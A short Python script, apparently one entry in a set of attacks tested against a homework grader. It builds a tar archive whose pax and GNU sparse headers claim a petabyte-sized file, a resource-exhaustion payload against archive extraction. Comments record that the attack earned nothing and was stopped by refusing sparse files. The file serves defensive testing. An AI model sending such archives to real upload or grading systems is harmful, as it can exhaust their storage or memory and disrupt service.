# attack: sparse files of a petabyte, in GNU's form and in that of pax
# earns: 0
# stopped by: sparse files are refused
import tarfile
from pathlib import Path


def build(path: Path) -> None:
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as archive:
        member = tarfile.TarInfo("hw3/gru.py")
        member.pax_headers = {
            "GNU.sparse.major": "1",
            "GNU.sparse.minor": "0",
            "GNU.sparse.realsize": str(1 << 50),
        }
        archive.addfile(member)
        member = tarfile.TarInfo("hw3/other.py")
        member.type = tarfile.GNUTYPE_SPARSE
        archive.addfile(member)
